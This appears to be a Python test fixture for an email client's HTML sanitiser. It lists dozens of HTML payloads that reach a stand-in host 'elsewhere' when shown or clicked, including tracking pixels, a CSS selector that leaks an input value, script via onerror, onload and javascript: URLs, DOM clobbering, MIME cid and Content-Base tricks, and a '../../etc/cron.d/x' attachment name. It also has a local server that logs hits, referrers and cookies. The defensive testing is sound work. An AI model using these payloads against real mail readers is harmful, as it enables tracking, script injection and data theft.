"""Mail that wants to do something when it is looked at, and a place that notices when it does.

Each HTML reaches for `ELSEWHERE`, another origin, with its own name as the path: a picture, a
style, a script that runs, a frame, a form.  `Elsewhere` is that origin; it hears connections too,
because a `preconnect` asks for nothing and tells the sender all the same.
"""

from __future__ import annotations

import base64
import http.server
import threading
from collections.abc import Callable
from typing import Any

ELSEWHERE = "http://elsewhere.invalid"  # stands for the address, which is known when it runs

_RUN = f"void(fetch('{ELSEWHERE}/NAME',{{mode:'no-cors'}}),top.hacked=1)"

LOADS: dict[str, str] = {
    "img": f'<img src="{ELSEWHERE}/img">',
    "srcset": f'<img srcset="{ELSEWHERE}/srcset 1x">',
    "picture": f'<picture><source srcset="{ELSEWHERE}/picture"><img src="data:,"></picture>',
    "picture-scheme": (
        '<picture><source media="(prefers-color-scheme: light)" '
        f'srcset="{ELSEWHERE}/picture-scheme"><img src="data:,"></picture>'
    ),
    "background": f'<body background="{ELSEWHERE}/background">',
    "css-url": f"<p style=\"background:url('{ELSEWHERE}/css-url')\">text</p>",
    "css-import": f"<style>@import url('{ELSEWHERE}/css-import');</style>",
    "css-font": (
        f"<style>@font-face{{font-family:f;src:url('{ELSEWHERE}/css-font')}}p{{font-family:f}}"
        "</style><p>text</p>"
    ),
    "css-exfiltration": (
        f"<style>input[value^='s']{{background:url('{ELSEWHERE}/css-exfiltration')}}</style>"
        "<input value=secret>"
    ),
    "css-content": f"<style>p::after{{content:url('{ELSEWHERE}/css-content')}}</style><p>text</p>",
    "css-list": f"<ul style=\"list-style-image:url('{ELSEWHERE}/css-list')\"><li>text</ul>",
    "css-border": (
        f"<p style=\"border:9px solid;border-image:url('{ELSEWHERE}/css-border') 9\">text</p>"
    ),
    "css-escaped": f"<p style=\"background:\\75rl('{ELSEWHERE}/css-escaped')\">text</p>",
    "css-image-set": (
        f"<p style=\"background:image-set('{ELSEWHERE}/css-image-set' 1x)\">text</p>"
    ),
    "image-alias": f'<image src="{ELSEWHERE}/image-alias">',
    "table": f'<table background="{ELSEWHERE}/table"><tr><td>text</table>',
    "entities": f'<img src="{ELSEWHERE}&#47;entities">',
    "svg-style": f"<svg><style>@import url('{ELSEWHERE}/svg-style');</style></svg>",
    "svg-filter": (
        f'<svg width="9" height="9"><filter id="f"><feImage href="{ELSEWHERE}/svg-filter"/>'
        '</filter><rect width="9" height="9" filter="url(#f)"/></svg>'
    ),
    "svg-escaped": f"<svg><style>p{{color:\\<img src={ELSEWHERE}/svg-escaped>}}</style></svg>",
    "unclosed-image": f'<img src="{ELSEWHERE}/unclosed-image" <p>text',
    "stylesheet": f'<link rel="stylesheet" href="{ELSEWHERE}/stylesheet">',
    "preload": f'<link rel="preload" as="image" href="{ELSEWHERE}/preload">',
    "prefetch": f'<link rel="prefetch" href="{ELSEWHERE}/prefetch">',
    "svg-image": f'<svg><image href="{ELSEWHERE}/svg-image" width="9" height="9"/></svg>',
    "video": f'<video poster="{ELSEWHERE}/video"></video>',
    "audio": f'<audio src="{ELSEWHERE}/audio" autoplay></audio>',
    "iframe": f'<iframe src="{ELSEWHERE}/iframe"></iframe>',
    "object": f'<object data="{ELSEWHERE}/object"></object>',
    "embed": f'<embed src="{ELSEWHERE}/embed">',
    "input-image": f'<input type="image" src="{ELSEWHERE}/input-image">',
    "base": f'<base href="{ELSEWHERE}/"><img src="base">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">',
    "script-src": f'<script src="{ELSEWHERE}/script-src"></script>',
}
LOADS["mixed"] = (
    f'<img src="{ELSEWHERE}/mixed" srcset="{ELSEWHERE}/mixed-2 2x" referrerpolicy="unsafe-url"'
    f' attributionsrc="{ELSEWHERE}/mixed-attribution">'
    f'<link rel="icon" href="{ELSEWHERE}/mixed-icon"><link rel="dns-prefetch" href="{ELSEWHERE}">'
    '<meta name="referrer" content="unsafe-url">'
    f'<svg><use href="{ELSEWHERE}/mixed-use#a"/><image><set attributeName="href" '
    f'to="{ELSEWHERE}/mixed-set"/></image><rect mask="url({ELSEWHERE}/mixed-mask)"/></svg>'
    f"<p style=\"cursor:url('{ELSEWHERE}/mixed-cursor'),auto;shape-outside:url({ELSEWHERE}/mixed-s)"
    f';--a:url({ELSEWHERE}/mixed-a);background:var(--a)">text</p>'
    + "".join(
        LOADS[name]
        for name in ("css-import", "css-font", "css-image-set", "svg-style", "svg-filter",
                     "stylesheet", "preload", "prefetch", "svg-image", "video", "audio", "iframe",
                     "object", "embed", "picture")
    )
)  # fmt: skip
"""Loads something as soon as it is shown."""

PICTURES = frozenset(
    {"img", "srcset", "background", "css-url", "css-exfiltration", "css-content", "css-list"}
    | {"css-border", "css-escaped", "image-alias", "table", "entities", "unclosed-image"}
    | {"input-image", "mixed", "picture-scheme"}
)
"""Those of the above that show a picture, once remote ones are asked for; all others show none."""

CONNECTS: dict[str, str] = {
    "preconnect": f'<link rel="preconnect" href="{ELSEWHERE}"><p>text</p>',
    "preconnect-style": (
        f"<svg><style>p{{color:\\<p>\\<link rel=preconnect href={ELSEWHERE}>}}</style></svg>"
    ),
    "preconnect-late": f'<p>text<LINK/rel=preconnect href="{ELSEWHERE}" crossorigin></p>',
}
"""Opens a connection as soon as it is shown, and asks for nothing."""

RUNS: dict[str, str] = {
    "script": "<script>RUN</script>",
    "module": '<script type="module">RUN</script>',
    "onerror": '<img src="data:," onerror="RUN">',
    "onload": '<svg onload="RUN"></svg>',
    "autofocus": '<input autofocus onfocus="RUN">',
    "ontoggle": '<details open ontoggle="RUN">text</details>',
    "animation": "<style>@keyframes k{from{color:red}}</style>"
    '<p style="animation:k 1ms" onanimationstart="RUN">text</p>',
    "iframe-js": '<iframe src="javascript:RUN"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>top.hacked=1;new Image().src='
    f"'{ELSEWHERE}/srcdoc'</script>\"></iframe>",
    "unclosed": "<title><textarea></title></textarea><script>RUN</script>",
    "self-submit": f'<form id="f" action="{ELSEWHERE}/self-submit"></form>'
    "<script>document.getElementById('f').submit()</script>",
    "leave": f"<script>top.location='{ELSEWHERE}/leave'</script>",
}
"""Runs a script as soon as it is shown."""

LEAVES = frozenset({"refresh", "self-submit", "leave"})
"""Those of the above that lead away from where they are shown."""

CLICKS: dict[str, str] = {
    "link": f'<a id="it" href="{ELSEWHERE}/link">text</a>',
    "link-top": f'<a id="it" target="_top" href="{ELSEWHERE}/link-top">text</a>',
    "link-blank": f'<a id="it" target="_blank" href="{ELSEWHERE}/link-blank">text</a>',
    "link-ping": f'<a id="it" href="#here" ping="{ELSEWHERE}/link-ping">text</a>',
    "link-js": '<a id="it" href="javascript:RUN">text</a>',
    "link-download": f'<a id="it" download href="{ELSEWHERE}/link-download">text</a>',
    "form": f'<form action="{ELSEWHERE}/form"><button id="it">text</button></form>',
    "form-js": '<form action="javascript:RUN"><button id="it">text</button></form>',
    "onclick": '<button id="it" onclick="RUN">text</button>',
    "link-base": f'<base href="{ELSEWHERE}/"><a id="it" href="link-base">text</a>',
    "link-svg": f'<svg><a id="it" href="{ELSEWHERE}/link-svg"><text y="20">text</text></a></svg>',
    "link-xlink": (
        f'<svg><a id="it" xlink:href="{ELSEWHERE}/link-xlink"><text y="20">text</text></a></svg>'
    ),
    "link-shadow": (
        '<p id="it"><template shadowrootmode="open">'
        f'<a href="{ELSEWHERE}/link-shadow">text</a></template></p>'
    ),
    "link-self": f'<a id="it" target="_self" href="{ELSEWHERE}/link-self">text</a>',
    "form-action": (
        f'<form><button id="it" formaction="{ELSEWHERE}/form-action">text</button></form>'
    ),
    "clobbered": (
        "<form name=querySelector></form><img name=documentElement><form><input name=closest>"
        "<input name=getAttribute><p id=it>text</p></form>"
    ),
}
"""Does something when the element `it` is clicked."""


def catalogue(elsewhere: str, *parts: dict[str, str]) -> dict[str, str]:
    """Return the HTML of `parts` by name, reaching for `elsewhere`."""
    return {
        name: text.replace("RUN", _RUN.replace("NAME", name)).replace(ELSEWHERE, elsewhere)
        for part in parts
        for name, text in part.items()
    }


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGOIqngGRAwQCgAt/gbhRn6nmQAAAABJRU5E"
    "rkJggg=="
)


class Elsewhere:
    """An HTTP server that answers everything with a picture, and remembers who came."""

    def __init__(self) -> None:
        self.heard: set[str] = set()
        self.asked: list[str] = []  # the same, each time
        self.told: list[tuple[str | None, str | None]] = []  # referrers and cookies that came along
        self.connections = 0
        self.news = threading.Condition()
        seen = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def setup(self) -> None:
                with seen.news:
                    seen.connections += 1
                    seen.news.notify_all()
                super().setup()

            def do_GET(self) -> None:
                with seen.news:
                    seen.heard.add(self.path.strip("/?"))
                    seen.asked.append(self.path.strip("/?"))
                    if "Referer" in self.headers or "Cookie" in self.headers:
                        seen.told.append((self.headers["Referer"], self.headers["Cookie"]))
                    seen.news.notify_all()
                self.send_response(200)
                picture = b"" if "text/html" in self.headers.get("Accept", "") else PNG
                if picture:
                    self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(picture)))
                self.end_headers()
                self.wfile.write(picture)

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                """Stay silent: what was heard is what matters."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,))
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> Elsewhere:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    def wait_for(self, name: str, timeout: float = 10.0) -> None:
        """Wait until `name` was asked for; `AssertionError` if it never is."""
        self._wait(lambda: name in self.heard, f"{name} was not heard", timeout)

    def wait_for_connections(self, count: int, timeout: float = 10.0) -> None:
        """Wait until `count` connections were opened; `AssertionError` if they never are."""
        self._wait(lambda: self.connections >= count, "nobody connected", timeout)

    def _wait(self, met: Callable[[], bool], otherwise: str, timeout: float) -> None:
        with self.news:
            assert self.news.wait_for(met, timeout), otherwise


def whole(elsewhere: str) -> dict[str, bytes]:
    """Messages in which one part pretends to be another, by their subject, reaching for
    `elsewhere`."""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{elsewhere}/part-svg" width="9" '
        'height="9"/><script>top.hacked=1</script></svg>'
    )
    page = f"<script>top.hacked=1;fetch('{elsewhere}/part-page')</script><img src={elsewhere}/x>"
    shown = '<img src="cid:a@b"><iframe src="cid:a@b"></iframe><object data="cid:a@b"></object>'
    parts = {
        "cid-svg": (shown, "image/svg+xml", "Content-ID: <a@b>", svg),
        "cid-page": (shown, "image/png", "Content-ID: <a@b>", page),
        "cid-url": (
            f'<img src="cid:{elsewhere}/cid-url">', "image/png",
            f"Content-ID: <{elsewhere}/cid-url>", page,
        ),
        "cid-quotes": (
            "<img src='cid:a\"onerror=\"top.hacked=1'>", "image/png",
            'Content-ID: <a"onerror="top.hacked=1>', page,
        ),
        "mhtml": (
            f'<iframe src="{elsewhere}/frame.html"></iframe><img src="mhtml:{elsewhere}/m!i">',
            "text/html; name=frame.html", f"Content-Location: {elsewhere}/frame.html", page,
        ),
        "content-base": (
            '<img src="base"><img src="/api/v1/overview">', "image/png",
            f"Content-Base: {elsewhere}/", page,
        ),
    }  # fmt: skip
    return {
        name: (
            f"Subject: {name}\r\nMIME-Version: 1.0\r\nContent-Base: {elsewhere}/\r\n"
            "Content-Type: multipart/related; boundary=b\r\n\r\n"
            f"--b\r\nContent-Type: text/html\r\n\r\n{markup}\r\n"
            f"--b\r\nContent-Type: {kind}\r\n{field}\r\n\r\n{content}\r\n--b--\r\n"
        ).encode()
        for name, (markup, kind, field, content) in parts.items()
    }


def unparseable() -> dict[str, bytes]:
    """Whole messages that break parsers, by their subject."""
    parts = b"--b\r\n\r\nx\r\n" * 100_000
    nested = b"".join(
        b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n)
        for n in range(1000)
    )
    odd = {
        "deep": nested,
        "parts": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts,
        "brackets": b"From: " + b"(" * 500 + b"\r\n\r\nbody\r\n",
        "message-id": b"Message-ID: <\r\n\r\nbody\r\n",
        "charset": b"Content-Type: text/plain; charset=no-such\r\n\r\nbody\r\n",
        "filename": (
            b'Content-Disposition: attachment; filename="../../etc/cron.d/x"\r\n\r\nbody\r\n'
        ),
    }
    return {f"<img src=x onerror=top.hacked=1> {name}": text for name, text in odd.items()}
